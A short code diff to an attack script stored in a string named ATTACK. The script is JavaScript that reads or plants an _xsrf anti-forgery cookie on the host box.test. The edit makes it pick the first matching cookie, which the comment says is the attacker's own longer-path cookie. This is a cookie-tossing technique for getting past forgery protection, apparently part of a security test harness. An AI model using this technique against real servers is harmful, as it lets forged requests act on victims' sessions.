@@ -30,8 +30,8 @@ ATTACK = """async ({ target, kernel, mark }) => {
     const make = (name, more) => Object.assign(document.createElement(name), more);
 
     // The token against forged requests: read where that can be done, else put there by a neighbour.
-    // Of two the server believes the last.
-    let token = document.cookie.split("; ").filter(cookie => cookie.startsWith("_xsrf=")).pop()?.slice(6);
+    // Of two the server believes the first, whose path is longer: ours.
+    let token = document.cookie.split("; ").filter(cookie => cookie.startsWith("_xsrf="))[0]?.slice(6);
     if (!token) {
         token = "0123456789abcdef0123456789abcdef";
         document.cookie = `_xsrf=${token}; domain=box.test; path=/; secure`;
